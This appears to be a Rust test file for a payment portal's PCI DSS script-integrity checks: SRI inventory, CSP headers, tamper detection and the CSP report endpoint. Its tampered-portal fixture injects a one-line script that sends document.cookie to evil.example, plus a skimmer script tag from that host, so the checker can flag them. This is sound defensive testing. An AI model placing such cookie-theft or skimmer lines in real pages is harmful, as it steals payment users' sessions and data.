//! The payment page is locked down (PCI DSS 6.4.3, 11.6.1): the script inventory, the
//! tamper check against the real server and against tampered ones, CSP reports.

use crate::harness::server;
use axum::http::{header, HeaderName, HeaderValue};
use axum::response::{Html, IntoResponse, Response};
use axum::routing::get;
use axum::{Json, Router};
use base64::Engine;
use sha2::{Digest, Sha384};
use tokio::net::TcpListener;

fn sri(bytes: &[u8]) -> String {
    format!(
        "sha384-{}",
        base64::engine::general_purpose::STANDARD.encode(Sha384::digest(bytes))
    )
}

/// Runs `strongroom integrity check ARGS...`; returns (exit code, stdout).
async fn integrity_check(args: &[&str]) -> (i32, String) {
    let out = tokio::process::Command::new(env!("CARGO_BIN_EXE_strongroom"))
        .arg("integrity")
        .arg("check")
        .args(args)
        .output()
        .await
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8_lossy(&out.stdout).into_owned(),
    )
}

#[tokio::test]
async fn inventory_lists_every_script_with_the_served_hash() {
    let s = server().start().await;
    let res = s.get("/.well-known/script-inventory.json").await;
    assert_eq!(res.status(), 200);
    let inv: serde_json::Value = res.json().await.unwrap();
    assert_eq!(
        inv["generated_by"],
        format!("strongroom {}", env!("CARGO_PKG_VERSION"))
    );
    let scripts = inv["scripts"].as_array().unwrap();
    assert_eq!(scripts.len(), web::assets::SCRIPTS.len());
    for sc in scripts {
        let path = sc["path"].as_str().unwrap();
        assert!(path.starts_with("/assets/"), "{path}");
        assert!(!sc["reason"].as_str().unwrap().is_empty());
        let bytes = s.get(path).await.bytes().await.unwrap();
        assert_eq!(sc["sha384"].as_str().unwrap(), sri(&bytes), "{path}");
    }
    // Every script any payment page loads is in the inventory, with the same SRI value.
    let pages = inv["pages"].as_array().unwrap();
    let paths: Vec<&str> = pages.iter().map(|p| p["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["/", "/login", "/register"]);
    for p in pages {
        let res = s.get(p["path"].as_str().unwrap()).await;
        assert_eq!(
            res.headers()["content-security-policy"].to_str().unwrap(),
            p["csp"].as_str().unwrap()
        );
        let html = res.text().await.unwrap();
        let tags: Vec<&str> = html.split("<script").skip(1).collect();
        assert!(!tags.is_empty(), "{}", p["path"]);
        for tag in tags {
            assert!(
                scripts.iter().any(|sc| tag.starts_with(&format!(
                    " src=\"{}\" integrity=\"{}\"",
                    sc["path"].as_str().unwrap(),
                    sc["sha384"].as_str().unwrap()
                ))),
                "a script not in the inventory: {tag}"
            );
        }
        // The passkey script is never on a payment page.
        assert!(!html.contains("passkey.js"), "{}", p["path"]);
    }
}

#[tokio::test]
async fn csp_reports_to_the_portal() {
    let s = server().start().await;
    let res = s.get("/").await;
    let csp = res.headers()["content-security-policy"].to_str().unwrap();
    assert!(
        csp.ends_with("; report-uri /csp-report; report-to csp"),
        "{csp}"
    );
    assert_eq!(res.headers()["reporting-endpoints"], "csp=\"/csp-report\"");
    assert_eq!(
        csp,
        web::security::expected_csp(&s.processor),
        "the served CSP is the one the check expects"
    );
}

#[tokio::test]
async fn integrity_check_passes_against_the_real_server() {
    let s = server().start().await;
    let (code, out) = integrity_check(&[&s.portal, "--processor-origin", &s.processor]).await;
    assert_eq!(code, 0, "{out}");
    assert!(!out.contains("FAIL"), "{out}");
    assert!(
        out.contains("ok    page /login: Content-Security-Policy as built"),
        "{out}"
    );
    assert!(out.contains("integrity matches the build"), "{out}");
    // Without a pinned processor origin, it says where it took it from.
    let (code, out) = integrity_check(&[&s.portal]).await;
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("taken from the server's inventory"), "{out}");
}

#[tokio::test]
async fn scheduled_check_writes_the_audit_log() {
    let s = server().start().await;
    let ok = strongroom::integrity::scheduled_check(s.app(), &s.portal, &s.processor)
        .await
        .unwrap();
    assert!(ok.ok(), "{:?}", ok.findings);
    // The same server judged against another processor origin: a CSP mismatch.
    let bad = strongroom::integrity::scheduled_check(s.app(), &s.portal, "https://other.example")
        .await
        .unwrap();
    assert!(!bad.ok());
    let mut c = s.app().store.conn().await.unwrap();
    let rows: Vec<_> = store::audit::recent(&mut c, 50)
        .await
        .unwrap()
        .into_iter()
        .filter(|r| r.event == "integrity.check")
        .collect();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].outcome, "failure");
    assert!(
        rows[0].detail.contains("Content-Security-Policy"),
        "{}",
        rows[0].detail
    );
    assert_eq!(rows[1].outcome, "success");
    assert_eq!(rows[1].actor, "system");
    assert!(store::audit::verify(&mut c, crate::harness::AUDIT_KEY)
        .await
        .is_ok());
}

/// How the stand-in portal departs from the build.
#[derive(Clone, Copy, PartialEq)]
enum Tamper {
    None,
    InlineScript,
    WrongSri,
    WeakerCsp,
    SkimmerScript,
    ScriptBytes,
    NoSniffMissing,
}

const PROC: &str = "https://checkout.example";

/// A stand-in portal on 127.0.0.1:0 that serves the build's inventory and assets and
/// payment pages built like ours, except for `t`.
async fn tampered_portal(t: Tamper) -> String {
    let script = &web::assets::SCRIPTS[0];
    let sri_value = web::assets::integrity(script.path).unwrap();
    let page = move || {
        let sri_attr = if t == Tamper::WrongSri {
            sri(b"something else")
        } else {
            sri_value.clone()
        };
        let extra = match t {
            Tamper::InlineScript => {
                "<script>fetch('https://evil.example/?c='+document.cookie)</script>"
            }
            Tamper::SkimmerScript => "<script src=\"https://evil.example/skim.js\"></script>",
            _ => "",
        };
        let html = format!(
            "<!DOCTYPE html><html><body><h1>Pay</h1>{extra}<script src=\"/assets/{}\" integrity=\"{sri_attr}\" crossorigin=\"anonymous\"></script></body></html>",
            script.path
        );
        let mut res: Response = Html(html).into_response();
        let csp = if t == Tamper::WeakerCsp {
            web::security::expected_csp(PROC)
                .replace("script-src 'self'", "script-src 'self' 'unsafe-inline'")
        } else {
            web::security::expected_csp(PROC)
        };
        let h = res.headers_mut();
        h.insert(
            header::CONTENT_SECURITY_POLICY,
            HeaderValue::from_str(&csp).unwrap(),
        );
        for (name, value) in web::security::FIXED_HEADERS {
            if t == Tamper::NoSniffMissing && *name == "x-content-type-options" {
                continue;
            }
            h.insert(
                HeaderName::from_static(name),
                HeaderValue::from_static(value),
            );
        }
        h.insert(
            HeaderName::from_static("reporting-endpoints"),
            HeaderValue::from_static(web::security::REPORTING_ENDPOINTS),
        );
        h.insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
        res
    };
    let mut app: Router = Router::new()
        .route(
            "/.well-known/script-inventory.json",
            get(|| async { Json(web::integrity::manifest(PROC)) }),
        )
        .route(
            "/",
            get({
                let page = page.clone();
                move || async move { page() }
            }),
        )
        .route(
            "/login",
            get({
                let page = page.clone();
                move || async move { page() }
            }),
        )
        .route("/register", get(move || async move { page() }));
    if t == Tamper::ScriptBytes {
        app = app.route(
            &format!("/assets/{}", script.path),
            get(|| async { "window.skim = true;" }),
        );
    } else {
        app = app.merge(web::assets::router());
    }
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        let _ = axum::serve(listener, app).await;
    });
    format!("http://{addr}")
}

#[tokio::test]
async fn integrity_check_names_each_tampering() {
    // The stand-in itself, untampered, passes: so each failure below is the tampering.
    let base = tampered_portal(Tamper::None).await;
    let (code, out) = integrity_check(&[&base, "--processor-origin", PROC]).await;
    assert_eq!(code, 0, "{out}");

    for (t, expect) in [
        (Tamper::InlineScript, "FAIL  page /: inline <script>"),
        (
            Tamper::WrongSri,
            "FAIL  page /: integrity of /assets/uswds/js/uswds.min.js",
        ),
        (
            Tamper::WeakerCsp,
            "FAIL  page /: Content-Security-Policy differs from the build",
        ),
        (
            Tamper::SkimmerScript,
            "FAIL  page /: unexpected script \"https://evil.example/skim.js\"",
        ),
        (
            Tamper::ScriptBytes,
            "FAIL  /assets/uswds/js/uswds.min.js served bytes hash to",
        ),
        (
            Tamper::NoSniffMissing,
            "FAIL  page /: x-content-type-options",
        ),
    ] {
        let base = tampered_portal(t).await;
        let (code, out) = integrity_check(&[&base, "--processor-origin", PROC]).await;
        assert_eq!(code, 1, "{expect}: {out}");
        assert!(out.contains(expect), "{expect}: {out}");
    }

    // A weaker form-action (the server swapped the processor) is caught when pinned.
    let base = tampered_portal(Tamper::None).await;
    let (code, out) = integrity_check(&[
        &base,
        "--processor-origin",
        "https://real-processor.example",
    ])
    .await;
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("Content-Security-Policy differs"), "{out}");
}

#[tokio::test]
async fn integrity_check_fails_when_nothing_answers() {
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    drop(listener);
    let (code, out) =
        integrity_check(&[&format!("http://{addr}"), "--processor-origin", PROC]).await;
    assert_eq!(code, 1, "{out}");
    assert!(out.contains("cannot fetch"), "{out}");
}

async fn post_report(
    s: &crate::harness::Server,
    content_type: &str,
    body: impl Into<reqwest::Body>,
) -> (u16, String) {
    let res = s
        .http
        .post(format!("{}/csp-report", s.portal))
        .header("content-type", content_type)
        .body(body)
        .send()
        .await
        .unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

#[tokio::test]
async fn csp_reports_are_recorded_without_query_strings() {
    let s = server().start().await;
    let legacy = serde_json::json!({"csp-report": {
        "document-uri": format!("{}/quick-pay?account=100001&zip=93301#pay", s.portal),
        "violated-directive": "script-src-elem",
        "effective-directive": "script-src-elem",
        "blocked-uri": "https://evil.example/skim.js?token=abc",
        "original-policy": "default-src 'none'"
    }});
    let (status, body) = post_report(&s, "application/csp-report", legacy.to_string()).await;
    assert_eq!(status, 204, "{body}");
    let batch = serde_json::json!([
        {"type": "csp-violation", "age": 3, "url": format!("{}/login?next=/x", s.portal),
         "body": {"documentURL": format!("{}/login?next=/x", s.portal), "effectiveDirective": "script-src-elem",
                  "blockedURL": "inline", "disposition": "enforce"}},
        {"type": "deprecation", "body": {"id": "x"}}
    ]);
    let (status, body) = post_report(&s, "application/reports+json", batch.to_string()).await;
    assert_eq!(status, 204, "{body}");

    let mut rows = s.app().recent_csp_reports(10).await.unwrap();
    rows.sort_by(|a, b| a.document_path.cmp(&b.document_path));
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[0].document_path, "/login");
    assert_eq!(rows[0].blocked_origin, "inline");
    assert_eq!(rows[1].document_path, "/quick-pay");
    assert_eq!(rows[1].violated_directive, "script-src-elem");
    assert_eq!(rows[1].blocked_origin, "https://evil.example");
    for r in &rows {
        for field in [&r.document_path, &r.violated_directive, &r.blocked_origin] {
            assert!(!field.contains('?') && !field.contains("100001") && !field.contains("abc"));
        }
    }
}

#[tokio::test]
async fn csp_reports_refuse_oversized_malformed_and_other_types() {
    let s = server().start().await;
    let big = format!(
        "{{\"csp-report\":{{\"document-uri\":\"/\",\"violated-directive\":\"{}\"}}}}",
        "a".repeat(9 * 1024)
    );
    let (status, body) = post_report(&s, "application/csp-report", big).await;
    assert_eq!(status, 413, "{body}");
    assert!(body.contains("body_too_large"), "{body}");

    for bad in ["{", "[]", "{\"csp-report\": 3}", "not json"] {
        let (status, body) = post_report(&s, "application/csp-report", bad).await;
        assert_eq!(status, 400, "{bad}: {body}");
        let v: serde_json::Value = serde_json::from_str(&body).unwrap();
        assert_eq!(v["error"]["code"], "invalid_report", "{body}");
    }
    let (status, _) = post_report(&s, "application/reports+json", "{\"type\":1}").await;
    assert_eq!(status, 400);
    let (status, body) = post_report(&s, "text/plain", "{}").await;
    assert_eq!(status, 415, "{body}");
    assert!(s.app().recent_csp_reports(10).await.unwrap().is_empty());
    // Not a page: GET is refused with a JSON error, not a server error.
    let res = s.get("/csp-report").await;
    assert_eq!(res.status(), 405);
}

#[tokio::test]
async fn csp_reports_are_rate_limited_per_ip() {
    let s = server().start().await;
    let report = serde_json::json!({"csp-report": {"document-uri": "/", "violated-directive": "img-src", "blocked-uri": "https://x.example/a.png"}}).to_string();
    let mut statuses = Vec::new();
    for _ in 0..(app::integrity::CSP_REPORTS_PER_WINDOW + 2) {
        statuses.push(
            post_report(&s, "application/csp-report", report.clone())
                .await
                .0,
        );
    }
    let limit = app::integrity::CSP_REPORTS_PER_WINDOW as usize;
    assert!(statuses[..limit].iter().all(|s| *s == 204), "{statuses:?}");
    assert_eq!(statuses[limit..], [429, 429]);
    assert_eq!(s.app().recent_csp_reports(100).await.unwrap().len(), limit);
}
